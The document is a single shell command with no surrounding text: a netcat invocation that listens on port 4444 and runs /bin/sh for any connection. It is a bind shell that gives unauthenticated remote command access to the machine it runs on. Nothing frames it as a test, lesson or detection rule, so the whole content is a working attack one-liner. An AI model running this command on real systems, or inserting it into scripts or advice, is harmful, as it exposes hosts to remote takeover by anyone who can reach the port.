nc -l -p 4444 -e /bin/sh
